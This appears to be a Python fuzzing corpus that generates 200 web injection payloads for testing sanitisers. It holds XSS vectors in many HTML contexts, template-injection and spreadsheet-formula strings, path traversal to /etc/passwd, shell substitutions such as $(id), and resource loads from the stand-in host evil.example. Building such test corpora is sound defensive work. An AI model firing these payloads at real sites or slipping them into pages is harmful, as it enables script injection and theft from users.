"""200 texts that a careless page would run, put together from what browsers run and from where texts stand."""

# What runs, as an element or an attribute of one.
ELEMENTS = [
    "<script>{0}</script>", "<img src=x onerror={0}>", "<svg onload={0}>", "<svg><script>{0}</script></svg>",
    "<body onload={0}>", "<iframe src=javascript:{0}>", "<iframe srcdoc='<script>parent.{0}</script>'>",
    "<details open ontoggle={0}>", "<input autofocus onfocus={0}>", "<video><source onerror={0}></video>",
    "<audio src=x onerror={0}>", "<object data=javascript:{0}>", "<embed src=javascript:{0}>",
    "<a href=javascript:{0} autofocus>x</a>", "<math><mtext></p><img src=x onerror={0}></mtext></math>",
    "<style>@import'//evil.example';</style>", "<link rel=stylesheet href=//evil.example>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>", "<form action=javascript:{0}><button>x</button></form>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>", "<marquee onstart={0}>x</marquee>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={0}/>#x'/></svg>", "<img srcset='x' src=x onerror={0}>",
    "<template><img src=x onerror={0}></template>",
]
# How a text leaves the place where it stands.
PLACES = ["{0}", "\"'>{0}", "</script></style></title></textarea>{0}", "--><!-- ]]>{0}", "\\u003c{0}\\x3e';{1};//", "&lt;{0}&#60;"]
# What is no element: formulas, addresses, templates, prototypes, directions and characters that are not seen.
OTHERS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)//", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "`${alert(1)}`",
    "';alert(1);'", "\";alert(1);\"", "\\';alert(1);//", "=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"//evil.example\")",
    "__proto__", "constructor", "toString", "hasOwnProperty", "valueOf", "[object Object]", "null", "undefined", "NaN",
    "\u202egnp.exe", "\u2066a\u2069", "\u200b\u200b", "\ufeff<img src=x onerror=alert(1)>", "\uff1cscript\uff1ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cimg src=x onerror=alert(1)%253E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{a}", "{b|bold}", "{@value}", "<b>bold</b>", "<i>x</i><br>", "&amp;&quot;&#39;", "%s %d %n", "../../etc/passwd", "/", "?a=b", "#x",
    "a&b=c", "a;b", "<!--#exec cmd=\"id\"-->", "$(id)", "`id`",
]

CALL = "alert(1)"
PAYLOADS = (OTHERS + [
    place.format(element.format(CALL), CALL) for place in PLACES for element in ELEMENTS
])[:200]
assert len(set(PAYLOADS)) == 200
